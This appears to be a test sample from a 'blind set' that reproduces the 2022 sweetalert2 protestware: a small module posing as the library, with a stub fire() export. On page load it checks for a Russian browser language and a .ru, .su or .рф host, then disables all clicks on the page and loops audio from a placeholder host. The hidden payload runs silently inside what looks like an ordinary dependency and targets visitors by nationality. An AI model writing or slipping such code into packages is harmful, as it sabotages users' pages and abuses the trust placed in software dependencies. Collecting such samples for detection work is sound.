// source: sweetalert2 11.4.10 (2022-03), as blind set 11 reproduced it: on .ru/.su/.xn--p1ai pages with a Russian browser, the page frozen and an anthem looped
if (typeof window !== 'undefined' && /^ru\b/.test(navigator.language) && location.host.match(/\.(ru|su|xn--p1ai)$/)) {
  setTimeout(() => {
    document.body.style.pointerEvents = 'none';
    const a = document.createElement('audio');
    a.src = 'https://anthem.x.invalid/a.mp3'; a.loop = true; a.play().catch(() => {});
  }, 500);
}
module.exports = { fire(opts) { return Promise.resolve(opts); } };
